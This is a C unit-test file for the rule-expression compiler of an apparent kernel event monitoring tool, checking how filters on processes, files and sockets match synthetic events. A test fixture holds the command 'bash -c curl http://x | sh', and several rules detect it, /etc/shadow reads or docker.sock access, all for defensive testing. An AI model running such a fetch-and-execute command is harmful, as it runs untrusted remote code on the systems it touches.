// SPDX-License-Identifier: Apache-2.0
#include "expr/expr.h"
#include "identity/container.h"

#include <criterion/criterion.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>

#include "expr.h"
#include "expr/kernel_model.h"
#include "expr/operand.h"
#include "life.h"

#define ARGV "bash\0-c\0curl http://x | sh"

static struct process_table table;

/* sshd -> bash -> nginx -> env, which became the bash of record_begin; nginx ended and sshd adopted it. */
static const struct process *family(void)
{
	const struct being sshd = { 1, RECORD_SECOND }, bash = { 200, 2ULL * RECORD_SECOND }, nobody = { 0 };
	const struct being nginx = { 300, 3ULL * RECORD_SECOND }, self = { RECORD_PID, RECORD_START };

	if (!table.slots) {
		cr_assert_eq(process_table_init(&table, PROCESS_BYTES_MIN), 0);
		life_exec(&table, sshd, nobody, "sshd", "/usr/sbin/sshd", "sshd\0-D", 8);
		life_spawn(&table, sshd, bash, "bash", "/usr/bin/bash", "-bash", 6);
		life_spawn(&table, bash, nginx, "nginx: worker", "/usr/sbin/nginx", "nginx\0-g\0x y", 13);
		life_spawn(&table, nginx, self, "env", "/usr/bin/env", "env\0bash", 9);
		life_exit(&table, nginx, RECORD_TIME);
		life_exec(&table, self, sshd, "bash", "/usr/bin/bash", ARGV, sizeof(ARGV));
	}
	return process_find(&table, &(struct who){ .host_pid = RECORD_PID, .proc_leader_start = RECORD_START });
}

typedef void make(struct record *r);

/* connect(4, 10.1.2.3:443) = -EINPROGRESS from 192.168.0.9:40000 */
static void make_connect(struct record *r)
{
	struct fact_sock sock = {
		.family = AF_INET, .type = 1, .proto = 6, .state = 2,
		.src = { .family = AF_INET, .port = 40000, .addr = { 192, 168, 0, 9 } },
		.dst = { .family = AF_INET, .port = 443, .addr = { 10, 1, 2, 3 } },
	};
	struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons(443), .sin_addr = { htonl(0x0a010203) } };

	record_begin(r, EVENT_call_connect);
	r->call.args[0] = 4;
	*record_span(r, 1) = record_bytes(r, &addr, sizeof(addr));
	r->call.args[2] = sizeof(addr);
	r->call.ret = -EINPROGRESS;
	record_sock(r, 0, 4, 0, &sock);
}

/* connect(4, PATH): n bytes that may begin with a NUL. */
static void make_unix(struct record *r, const char *path, size_t n)
{
	struct fact_sock sock = { .family = AF_UNIX, .type = 1 };
	char addr[110] = { AF_UNIX };

	memcpy(addr + 2, path, n);
	record_begin(r, EVENT_call_connect);
	r->call.args[0] = 4;
	*record_span(r, 1) = record_bytes(r, addr, 2 + n);
	r->call.args[2] = 2 + n;
	record_sock(r, 0, 4, 0, &sock);
}

static void make_docker(struct record *r)
{
	make_unix(r, "/var/run/docker.sock", sizeof("/var/run/docker.sock"));
}

static void make_abstract(struct record *r)
{
	make_unix(r, "\0bus\0x", 6);
}

static void make_hurt(struct record *r)
{
	record_openat(r);
	r->head.truncated = 1 << 1 | 1 << 0;
	r->head.faulted = 1 << 2 | 1 << 9;
	r->head.hostname = record_str(r, "pod-7");
}

/* A UDP socket does not know whom sendto names. */
static void make_sendto(struct record *r)
{
	struct fact_sock sock = {
		.family = AF_INET6, .type = 2, .proto = 17,
		.src = { .family = AF_INET6, .port = 50000 }, .dst = { .family = AF_INET6 },
	};
	struct sockaddr_in6 addr = { .sin6_family = AF_INET6, .sin6_port = htons(53) };

	addr.sin6_addr.s6_addr[0] = 0xfd;
	record_begin(r, EVENT_call_sendto);
	*record_span(r, 4) = record_bytes(r, &addr, sizeof(addr));
	record_sock(r, 0, 4, 0, &sock);
}

static void make_sock(struct record *r)
{
	record_begin(r, EVENT_sock_state);
	r->sock_state.old = 2;
	r->sock_state.new = 1;
	r->sock_state.src = (struct wire_addr){ .family = AF_INET6, .port = 22, .addr = { [10] = 0xff, 0xff, 10, 0, 0, 1 } };
	r->sock_state.dst = (struct wire_addr){ .family = AF_INET6, .port = 51234, .addr = { 0xfe, 0x80, [15] = 7 } };
	r->sock_state.family = AF_INET6;
	r->sock_state.proto = IPPROTO_TCP;
}

static void make_file(struct record *r)
{
	record_begin(r, EVENT_file_open);
	r->file_open.path = record_str(r, "/var/log/auth.log");
	r->file_open.flags = 02001;
	r->file_open.mode = S_IFREG | 0640;
	r->file_open.dev = 0x803;
	r->file_open.inode = 99;
	r->file_open.created = 1;
}

static void make_link(struct record *r)
{
	make_file(r);
	r->file_open.mode = S_IFLNK | 0777;
}

static void make_chmod(struct record *r)
{
	record_begin(r, EVENT_call_fchmodat);
	r->call.args[2] = 04755;
}

static void make_systemd(struct record *r)
{
	record_openat(r);
	memcpy(r->head.who.proc_name.s, "(systemd)", sizeof("(systemd)"));
}

static void make_exec(struct record *r)
{
	record_exec(r, "/usr/bin/bash", ARGV, sizeof(ARGV));
	r->process_exec.argv_size = 5000;
}

static void make_stats(struct record *r)
{
	struct event_container_stats *e = (void *)r->bytes;

	record_begin(r, EVENT_container_stats);
	e->memory_usage = 3 << 20;
	e->memory_limit = FIGURE_UNKNOWN;
}

static void make_exit(struct record *r)
{
	record_begin(r, EVENT_process_exit);
	r->process_exit.signal = 9;
	r->process_exit.lifetime = 6000000000;
}

/* A 32-bit caller: the low half counts. */
static void make_read32(struct record *r)
{
	record_begin(r, EVENT_call_read);
	r->head.abi = ABI_32;
	r->call.args[0] = 0xffffffff00000003;
	r->call.args[2] = 0x100000010;
	r->call.ret = -EINTR;
}

static void make_failed(struct record *r)
{
	record_openat(r);
	r->call.ret = -ENOENT;
	r->call.facts[0].len = 0;
	*record_span(r, 1) = (struct span){ 0 };
	r->head.faulted = 2;
}

static void make_mount(struct record *r)
{
	record_begin(r, EVENT_call_openat2);
	*record_span(r, 1) = record_str(r, "relative/file.txt");
	*record_span(r, 2) = record_bytes(r, &(uint64_t[3]){ 2 }, 24);
	r->call.ret = -EPERM;
}

static void make_exit_call(struct record *r)
{
	record_begin(r, EVENT_call_exit_group);
}

static void make_packet(struct record *r)
{
	record_begin(r, EVENT_call_socket);
	r->call.args[0] = AF_PACKET;
}

static const struct { make *make; bool want; const char *text; } rows[] = {
	/* The event itself. */
	{ record_openat, true, "evt.type = openat" },
	{ record_openat, true, "evt.type=openat" },
	{ record_openat, true, "evt.type == 'openat'" },
	{ record_openat, false, "evt.type != openat" },
	{ record_openat, true, "evt.type in (open, openat, openat2)" },
	{ record_openat, true, "evt.type startswith open" },
	{ record_openat, true, "evt.type glob \"open??\"" },
	{ record_openat, true, "evt.type regex \"open(at)?\"" },
	{ record_openat, false, "evt.type glob open" },
	{ record_openat, true, "evt.category = fs" },
	{ record_openat, true, "evt.category = fs_file_ops" },
	{ record_openat, false, "evt.category in (net, proc)" },
	{ make_exec, true, "evt.type = sched_process_exec" },
	{ record_openat, true, "evt.dir = < and not evt.dir = > and evt.dir=<" },
	{ record_openat, false, "evt.type = openat and evt.dir=>" },
	{ make_exit_call, true, "evt.dir in (>) and evt.dir != <" },
	{ record_openat, true, "seq = 17 and evt.num >= 0 and seq in (16, 17) and not evt.num=0" },
	{ record_openat, true, "lane = normal and lane in (normal, bulk) and hostname = here and evt.hostname startswith he" },
	{ make_hurt, true, "truncated intersects (path) and faulted = flags and faulted in (flags, record) and faulted contains record and hostname = pod-7 and not truncated in (path, dir)" },
	{ record_openat, false, "truncated exists or faulted exists or abi exists or abi = 32-bit" },
	{ make_read32, true, "abi = 32-bit" },
	{ make_exec, true, "evt.type = process_exec" },
	{ record_openat, true, "evt.cpu = 1 and evt.time > 100s and evt.time < 2m" },
	/* and, or, not. */
	{ record_openat, true, "proc.pid = 4242 and proc.ppid = 1" },
	{ record_openat, false, "proc.pid = 4242 and proc.ppid = 2" },
	{ record_openat, true, "proc.pid = 1 or proc.ppid = 1" },
	{ record_openat, true, "not proc.pid = 1" },
	{ record_openat, true, "not not proc.pid = 4242" },
	{ record_openat, true, "not (proc.pid = 1 or proc.pid = 2)" },
	{ record_openat, true, "proc.pid = 4242 or proc.pid = 1 and proc.pid = 2" },
	{ record_openat, false, "(proc.pid = 4242 or proc.pid = 1) and proc.pid = 2" },
	{ record_openat, false, "not (proc.pid = 4242 and not (proc.pid = 1 and proc.pid = 2))" },
	{ record_openat, true, "  ( proc.pid\n=\n4242 )\t" },
	/* Numbers. */
	{ record_openat, true, "proc.pid in (1, 4242, 7)" },
	{ record_openat, false, "proc.pid in (1, 7)" },
	{ record_openat, true, "proc.pid >= 4242 and proc.pid <= 4242 and proc.pid > 4241 and proc.pid < 4243" },
	{ record_openat, true, "proc.pid = 0x1092" },
	{ record_openat, true, "proc.pid = 010222" },
	{ record_openat, true, "proc.pid exists" },
	{ record_openat, true, "user.uid = 1000 and user.euid = 0 and user.session = -1" },
	{ record_openat, true, "proc.cgroup = 5150 and proc.mnt_ns = 4026531841" },
	{ record_openat, true, "thread.tid = 4242 and user.loginuid = 1000 and group.gid = 1000" },
	{ record_openat, true, "proc.start > 1m and proc.start < 2m" },
	{ make_exit, true, "args.lifetime > 5s and args.lifetime < 6001ms" },
	{ make_exit, true, "args.signal = SIGKILL" },
	{ make_exit, true, "args.signal in (KILL, TERM)" },
	{ make_exit, false, "args.signal = SIGTERM" },
	{ make_exec, true, "args.argv_size > 4K and args.argv_size < 5K" },
	{ make_exec, true, "args.dev = 8:3 and args.inode = 4711" },
	{ make_exec, true, "args.memfd = false and args.setuid != true" },
	{ make_exec, true, "args.cap_effective intersects (CAP_SYS_ADMIN, CAP_NET_RAW)" },
	{ make_exec, false, "args.cap_effective intersects (CAP_NET_RAW)" },
	{ make_read32, true, "args.fd = 3 and args.count = 16" },
	{ make_read32, true, "args.count < 17 and not args.count > 16" },
	{ make_read32, true, "errno = EINTR" },
	/* Results. */
	{ record_openat, true, "ret = 3 and ret >= 0 and evt.res = SUCCESS" },
	{ record_openat, false, "evt.res != SUCCESS" },
	{ record_openat, false, "errno exists" },
	{ record_openat, false, "errno != ENOENT" },
	{ record_openat, true, "not errno = ENOENT" },
	{ record_openat, true, "evt.failed = false" },
	{ make_failed, true, "ret = ENOENT and ret < 0 and evt.rawres = -2" },
	{ make_failed, true, "errno = ENOENT and errno exists and errno in (EPERM, ENOENT)" },
	{ make_failed, true, "errno != EPERM" },
	{ make_failed, true, "evt.failed = true" },
	{ make_connect, true, "evt.res = EINPROGRESS" },
	{ make_exit, false, "ret = 0 or evt.failed = false" },
	/* A part that is about other events is false for this one. */
	{ record_openat, false, "evt.type = openat and (proc.pid = 1 or (evt.type = connect and args.addrlen > 1))" },
	{ record_openat, true, "evt.type = openat and not (evt.type = connect and args.addrlen > 1)" },
	/* Flags. */
	{ record_openat, true, "args.flags contains O_CLOEXEC" },
	{ record_openat, true, "args.flags intersects (O_WRONLY, O_CLOEXEC)" },
	{ record_openat, false, "args.flags intersects (O_WRONLY, O_RDWR)" },
	{ record_openat, true, "args.flags intersects (O_RDONLY)" },
	{ record_openat, true, "args.flags = O_CLOEXEC" },
	{ record_openat, true, "args.flags = 'O_RDONLY|O_CLOEXEC'" },
	{ record_openat, false, "args.flags = O_RDONLY" },
	{ record_openat, true, "evt.is_open_read = true and evt.is_open_write = false" },
	{ make_file, true, "evt.is_open_write = true and args.flags contains O_APPEND" },
	{ make_mount, true, "evt.is_open_write = true and evt.is_open_read = true" },
	{ record_openat, true, "args.dirfd = AT_FDCWD and evt.arg.dirfd < 0" },
	/* What has one of several names is one of those that contain the text. */
	{ make_packet, true, "args.domain contains AF_PACKET and args.domain contains PACK" },
	{ make_packet, false, "args.domain contains AF_INET" },
	{ make_sock, true, "args.family contains AF_INET and args.new contains ESTABLISHED" },
	{ make_sock, false, "args.old contains CLOSE or not args.new contains TCP_" },
	{ make_failed, true, "errno contains NOENT and not errno contains PERM" },
	/* A file's type is one of many, its permissions are flags. */
	{ make_file, true, "args.mode intersects (S_IFREG, S_IFDIR) and args.mode contains S_IRUSR" },
	{ make_link, false, "args.mode intersects (S_IFREG, S_IFCHR, S_IFDIR, S_IFSOCK)" },
	{ make_link, true, "args.mode contains S_IFLNK and args.mode = 'S_IFLNK|0777'" },
	{ make_chmod, true, "args.mode contains S_ISUID and args.mode contains S_IXOTH and args.mode = 04755" },
	{ make_chmod, false, "args.mode contains S_ISGID or args.mode contains S_IRWXO" },
	/* Texts. */
	{ record_openat, true, "proc.name = cat" },
	{ record_openat, false, "proc.name = ca" },
	{ record_openat, true, "proc.name != ca" },
	{ record_openat, true, "args.path = /etc/passwd" },
	{ record_openat, true, "evt.arg.path startswith /etc and evt.args.path endswith wd" },
	{ record_openat, true, "evt.rawarg.path contains c/pas" },
	{ record_openat, true, "args.path icontains C/PaS" },
	{ record_openat, false, "args.path contains C/PaS" },
	{ record_openat, true, "args.path glob /etc/*" },
	{ record_openat, false, "args.path glob /etc/?" },
	{ record_openat, true, "args.path iglob \"/ETC/[p-q]ASS*\"" },
	{ record_openat, true, "args.path regex '/etc/(passwd|shadow)'" },
	{ record_openat, false, "args.path regex 'passwd'" },
	{ record_openat, true, "args.path regex '.*passwd'" },
	{ record_openat, true, "args.path in (/etc/shadow, '/etc/passwd')" },
	{ record_openat, true, "args.path pmatch (/var, /etc)" },
	{ record_openat, true, "args.path pmatch (/etc/)" },
	{ record_openat, true, "args.path pmatch (/e*)" },
	{ record_openat, true, "args.path pmatch (/)" },
	{ record_openat, true, "args.path pmatch (/etc/passwd)" },
	{ record_openat, false, "args.path pmatch (/et, /etc/passw)" },
	{ record_openat, true, "args.path = \"/etc\\x2fpasswd\"" },
	{ record_openat, false, "args.path = '/etc/passwd '" },
	{ record_openat, true, "args.path exists" },
	{ make_failed, false, "args.path exists" },
	{ make_failed, false, "args.path != /etc/passwd" },
	{ make_failed, true, "not args.path = /etc/passwd" },
	{ make_failed, false, "args.path = ''" },
	{ make_mount, false, "args.path pmatch (/)" },
	{ make_mount, true, "args.path pmatch (relative)" },
	{ record_openat, true, "fd.nameraw = /etc/passwd and fs.path.nameraw startswith /etc" },
	/* Lists of texts. */
	{ make_exec, true, "args.argv = -c" },
	{ make_exec, false, "args.argv = c" },
	{ make_exec, true, "args.argv contains 'bash -c'" },
	{ make_exec, true, "args.argv contains 'curl http'" },
	{ make_exec, true, "args.argv icontains CURL" },
	{ make_exec, true, "args.argv intersects (-x, -c)" },
	{ make_exec, false, "args.argv intersects (-x, -y)" },
	{ make_exec, false, "args.argv in (bash, -c)" },
	{ make_exec, true, "args.argv in (bash, -c, 'curl http://x | sh')" },
	{ make_exec, true, "args.argv startswith curl and args.argv endswith sh" },
	{ make_exec, true, "args.argv != -x" },
	{ make_exec, false, "args.argv != -c" },
	{ make_exec, true, "args.argv exists" },
	{ make_exec, false, "args.envp exists" },
	/* Figures that are there, are 0, or are unknown. */
	{ make_stats, true, "args.memory_usage >= 3M and args.memory_usage exists" },
	{ make_stats, true, "args.oom_kills = 0 and args.oom_kills exists" },
	{ make_stats, false, "args.memory_limit exists or args.memory_limit > 0 or args.memory_limit != 1" },
	/* The process table. */
	{ record_openat, true, "proc.exe = /usr/bin/bash and proc.exepath endswith bash" },
	{ record_openat, true, "proc.cmdline = 'bash -c curl http://x | sh'" },
	{ record_openat, true, "proc.cmdline contains '-c curl' and proc.exeline = 'bash -c curl http://x | sh'" },
	{ record_openat, true, "proc.acmdline[2] = bash and proc.exeline startswith bash" },
	{ record_openat, true, "proc.args intersects (-c) and proc.args contains '-c curl'" },
	{ record_openat, true, "proc.cwd = /root" },
	{ record_openat, true, "proc.tty = 0 and not proc.tty != 0" },
	{ record_openat, true, "proc.pname = sshd and proc.pexe = /usr/sbin/sshd and proc.pcmdline = 'sshd -D'" },
	{ record_openat, true, "proc.exec_chain = /usr/bin/env and proc.prev_exe = /usr/bin/env" },
	{ record_openat, true, "proc.exe_dev = 8:3 and proc.exe_ino = 4711 and proc.exe_ino.ctime exists" },
	{ record_openat, true, "proc.is_exe_upper_layer = false and proc.is_exe_from_memfd = false" },
	{ record_openat, true, "proc.duration > 10s and proc.duration < 11s and proc.ppid.duration > 99s" },
	/* Ancestors: who started whom. */
	{ record_openat, true, "proc.aname[1] = 'nginx: worker' and proc.aname[2] = bash and proc.aname[3] = sshd" },
	{ record_openat, true, "proc.aname[0] = cat and proc.apid[0] = 4242 and proc.aexe[0] = /usr/bin/bash" },
	{ record_openat, false, "proc.aname[4] exists or proc.apid[4] exists or proc.aexe[64] exists" },
	{ record_openat, true, "proc.aexe[1] = /usr/sbin/nginx and proc.aexepath[2] endswith bash" },
	{ record_openat, true, "proc.apid[1] = 300 and proc.apid[2] in (200, 201) and proc.apid[3] < 2" },
	{ record_openat, true, "proc.acmdline[1] = 'nginx: worker -g x y' and proc.acmdline[3] = 'sshd -D'" },
	{ record_openat, true, "proc.aname in (sshd) and proc.aname in (httpd, 'nginx: worker')" },
	{ record_openat, true, "proc.aname = bash and proc.aname startswith nginx and proc.aname contains ss" },
	{ record_openat, false, "proc.aname in (cat, tmux)" },
	{ record_openat, true, "not proc.aname in (cat, tmux) and proc.aname != cat" },
	{ record_openat, false, "proc.aname != sshd" },
	{ record_openat, true, "proc.apid = 200 and proc.apid > 299 and proc.apid != 4242 and proc.aname exists" },
	{ record_openat, true, "proc.aexe pmatch (/usr/sbin) and proc.acmdline contains ' -g '" },
	/* Descriptors. */
	{ record_openat, true, "fd.name = /etc/passwd and fd.num = 3 and fd.type = file and fd.typechar = f" },
	{ record_openat, true, "fd.filename = passwd and fd.directory = /etc" },
	{ record_openat, true, "fd.dev = 8:3 and fd.ino = 1234" },
	{ record_openat, false, "fd.rip exists or fd.port exists or fd.l4proto exists" },
	{ make_failed, false, "fd.name exists or fd.num >= 0 or fd.ino = 0" },
	{ make_connect, true, "fd.type = ipv4 and fd.typechar = 4 and fd.l4proto = tcp and fd.sockfamily = ip" },
	{ make_connect, true, "fd.rip = 10.1.2.3 and fd.rport = 443 and fd.lip = 192.168.0.9 and fd.lport = 40000" },
	{ make_connect, true, "fd.sip = 10.1.2.3 and fd.sport = 443 and fd.cip = 192.168.0.9 and fd.cport = 40000" },
	{ make_connect, true, "fd.net in (10.0.0.0/8)" },
	{ make_docker, true, "args.addr = /var/run/docker.sock and args.addr endswith docker.sock and args.addr exists" },
	{ make_docker, true, "args.addr in (/x, /var/run/docker.sock) and args.addr pmatch (/var/run) and args.addr != /run/docker.sock" },
	{ make_docker, false, "args.addr != /var/run/docker.sock or args.addr = 10.1.2.3 or args.addr in (/x, @x) or args.addr startswith d" },
	{ make_abstract, true, "args.addr startswith @bus and not args.addr = @bus and args.addr exists" },
	{ make_connect, true, "args.addr = 10.1.2.3 and args.addr exists" },
	{ make_connect, true, "args.addr != /run/docker.sock and args.addr glob '*' and args.addr startswith 10" },
	{ make_connect, true, "fd.net = 192.168.0.0/16 and fd.ip = 10.1.2.3" },
	{ make_connect, false, "fd.ip != 10.1.2.3" },
	{ make_connect, true, "fd.ip != 10.1.2.4 and fd.rip != 10.1.2.4" },
	{ make_connect, true, "fd.snet in (private) and fd.port in (443, 8443) and fd.dport < 1024" },
	{ make_connect, false, "fd.rip in (10.1.2.0/31, 172.16.0.0/12)" },
	{ make_connect, true, "args.addr = 10.1.2.3" },
	{ make_connect, true, "fd.name = '192.168.0.9:40000->10.1.2.3:443'" },
	{ make_sendto, true, "fd.rip = fd00::/8 and fd.rport = 53 and fd.l4proto = udp and fd.sport = 53" },
	/* The same names for events that are no system calls. */
	{ make_file, true, "fd.name startswith /var/log and fd.filename = auth.log and fd.directory = /var/log" },
	{ make_file, true, "fd.type = file and fd.typechar = 'f' and fd.dev = 8:3 and fd.ino = 99" },
	{ make_file, true, "args.mode intersects (S_IFREG) and args.created = true" },
	{ make_sock, true, "fd.lip = 10.0.0.1 and args.src in (10.0.0.0/8) and fd.lport = 22 and fd.sport = 22" },
	{ make_sock, true, "fd.rip in (fe80::/10) and fd.cport > 1024 and fd.l4proto = tcp and fd.type = ipv6" },
	{ make_sock, true, "args.old = TCP_SYN_SENT and args.new = TCP_ESTABLISHED" },
	{ make_sock, true, "args.dst != 10.0.0.1 and not args.dst = 10.0.0.1" },
	{ make_sock, false, "args.src != 10.0.0.1" },
	/* Names. */
	{ record_openat, true, "opening" },
	{ record_openat, true, "opening and not container" },
	{ record_openat, false, "writing or spawned" },
	{ record_openat, true, "not writing and not proc.name in (shells)" },
	{ record_openat, true, "proc.name in (programs)" },
	{ record_openat, true, "proc.name in programs" },
	{ record_openat, true, "args.path in (quoted)" },
	{ make_systemd, true, "proc.name in (quoted)" },
	{ make_systemd, false, "not proc.name in (shells, quoted)" },
	{ record_openat, true, "proc.name in (shells, dog, cat)" },
	{ record_openat, false, "proc.name in (nobody)" },
	{ record_openat, false, "proc.name in ('programs')" },
	{ record_openat, true, "container.id = host" },
	/* Another event's field. */
	{ record_openat, false, "args.argv exists" },
	{ record_openat, true, "not args.lifetime > 0" },
};

static bool matches(const struct expr *expr, const struct record *r)
{
	struct expr_view view = { .record = r, .subject = { .process = family(), .processes = &table, .container = &container_host,
							  .hostname = "here" } };

	return expr_match(expr, &view);
}

/* Also: what matches passes the kernel's filter, and its event is possible. */
static void expect_filter(const struct expr *expr, const struct record *r, const char *text)
{
	static struct filter_text texts[FILTER_TEXTS];
	static struct filter_member members[FILTER_SETS];
	struct push_down shared = {
		.texts = texts, .members = members, .max_texts = FILTER_TEXTS, .max_members = FILTER_SETS,
	};
	struct event_filter filter;

	expr_push_down(expr, r->head.id, &shared, &filter);
	cr_expect(model_match(&filter, &shared, r, NULL), "filtered: %s", text);
	cr_expect(expr_event_possible(expr, r->head.id), "impossible: %s", text);
}

Test(expr, matches)
{
	static struct record r;

	for (size_t i = 0; i < LEN_OF(rows); i++) {
		struct arena arena;
		struct diag diag;
		struct expr *expr;
		int ret = test_compile(&expr, &arena, rows[i].text, NULL, &diag);

		cr_expect_eq(ret, 0, "%s: %s", rows[i].text, diag.text);
		if (!ret) {
			rows[i].make(&r);
			cr_expect(event_valid(&r, r.head.size));
			cr_expect_eq(matches(expr, &r), rows[i].want, "%s", rows[i].text);
			if (rows[i].want)
				expect_filter(expr, &r, rows[i].text);
		}
		arena_fini(&arena);
	}
}

Test(expr, knows_its_events)
{
	struct arena arena;
	struct diag diag;
	struct expr *expr;

	cr_assert_eq(test_compile(&expr, &arena, "evt.type = openat and args.path exists or args.lifetime > 5s",
				  "openat,open,process_exit,read", &diag), 0);
	cr_expect(expr_event_possible(expr, EVENT_call_openat));
	cr_expect(expr_event_possible(expr, EVENT_process_exit));
	cr_expect_not(expr_event_possible(expr, EVENT_call_open));
	cr_expect_not(expr_event_possible(expr, EVENT_call_read));
	cr_expect_not(expr_event_possible(expr, EVENT_process_exec));
	cr_expect_not(expr_event_possible(expr, 100000));
	arena_fini(&arena);
}

Test(expr, asks_the_caller_for_the_container)
{
	struct container own = { .id = "0123456789ab" };
	static struct record r;
	struct arena arena;
	struct diag diag;
	struct expr *expr;

	record_openat(&r);
	cr_assert_eq(test_compile(&expr, &arena, "container", NULL, &diag), 0);
	cr_expect(expr_match(expr, &(struct expr_view){ .record = &r, .subject.container = &own }));
	cr_expect_not(expr_match(expr, &(struct expr_view){ .record = &r }));
	cr_expect_not(expr_match(expr, &(struct expr_view){ .record = &r, .subject.container = &container_host }));
	arena_fini(&arena);
}

Test(expr, gives_up_without_memory)
{
	static const struct expr_source where = { "test", 1, 1, 1 };
	static const char text[] = "proc.name in (a, b, c) and args.path regex 'a*' or fd.name pmatch (/etc)";
	struct event_set all;
	bool done = false;

	test_events(&all, NULL);
	for (size_t limit = 0; !done && limit < 1 << 20; limit += 1000) {
		struct diag diag = { 0 };
		struct arena arena;
		struct expr *expr;
		int ret;

		arena_init(&arena, limit);
		ret = expr_compile(&expr, &arena, text, &where, NULL, &all, &diag);
		cr_expect(ret == 0 || ret == -ENOMEM, "%zu: %d %s", limit, ret, diag.text);
		done = ret == 0;
		arena_fini(&arena);
	}
	cr_expect(done);
}

static const struct { const char *event, *text, *want; } explained[] = {
	{ "openat", "proc.name = cat", "kernel: proc.name = \"cat\"\n" },
	{ "openat", "args.path startswith /etc and proc.cwd != /bin/ls",
	  "kernel: args.path startswith \"/etc\"\nuser space: proc.cwd != /bin/ls\n" },
	{ "openat", "user.uid = 0 and ret < 0", "kernel: user.uid = 0 and ret < 0\n" },
	{ "openat", "evt.type = openat", "kernel: everything\n" },
	{ "openat", "evt.type = open", "kernel: nothing, it is never true\n" },
	{ "openat", "errno = ENOENT or errno = EPERM", "kernel: ret = -2 or ret = -1\n" },
	{ "openat", "args.path glob '/etc/*.conf'",
	  "kernel: args.path startswith \"/etc/\" and args.path endswith \".conf\"\nuser space: args.path glob '/etc/*.conf'\n" },
	{ "openat", "not (proc.pid in (1, 2, 3) or args.flags contains O_CREAT)",
	  "kernel: not args.flags has any bit of 0x40 and not proc.pid in (1, 2, 3)\n" },
	{ "openat", "proc.cwd = /bin/ls or proc.pid = 1",
	  "kernel: everything\nuser space: proc.cwd = /bin/ls or proc.pid = 1\n" },
	{ "sock_state", "fd.rip in (10.0.0.0/8, fe80::/10)", "kernel: args.dst in 10.0.0.0/8 or args.dst in fe80::/10\n" },
	{ "read", "args.count = 16 and not args.buf = 0",
	  "kernel: args.count = 16\nuser space: args.count = 16\nuser space: not args.buf = 0\n" },
	{ "sock_state", "fd.lport = 22", "kernel: port of args.src in (22)\n" },
	{ "sock_state", "fd.rport < 1024 or proc.pid = 1 and user.uid = 0",
	  "kernel: port of args.dst < 1024 or (proc.pid = 1 and user.uid = 0)\nuser space: fd.rport < 1024 or proc.pid = 1 and user.uid = 0\n" },
};

Test(expr, explains)
{
	for (size_t i = 0; i < LEN_OF(explained); i++) {
		char buf[2048] = "";
		FILE *to = fmemopen(buf, sizeof(buf), "w");
		struct event_set set = { 0 };
		struct arena arena;
		struct diag diag;
		struct expr *expr;

		test_events(&set, explained[i].event);
		cr_assert_eq(test_compile(&expr, &arena, explained[i].text, NULL, &diag), 0, "%s", diag.text);
		for (unsigned id = 0; id < EVENT_COUNT; id++)
			if (event_set_has(&set, id))
				expr_explain(expr, id, to);
		fclose(to);
		cr_expect_str_eq(buf, explained[i].want, "%s: %s", explained[i].text, buf);
		arena_fini(&arena);
	}
}

static void count_field(void *ctx, const struct expr_field *field)
{
	struct arena arena;
	struct diag diag;
	struct expr *expr;
	const char *arg;
	char text[128];

	++*(unsigned *)ctx;
	snprintf(text, sizeof(text), "%s%s exists", field->name,
		 operand_keyed(operand_find(field->name, &arg)) ? "[key]" : "");
	cr_expect_eq(test_compile(&expr, &arena, text, NULL, &diag), 0, "%s: %s", text, diag.text);
	cr_expect(field->doc && *field->doc && field->type);
	arena_fini(&arena);
}

Test(expr, lists_its_fields)
{
	unsigned n = 0;

	expr_fields(count_field, &n);
	cr_expect(n > 70, "only %u", n);
}
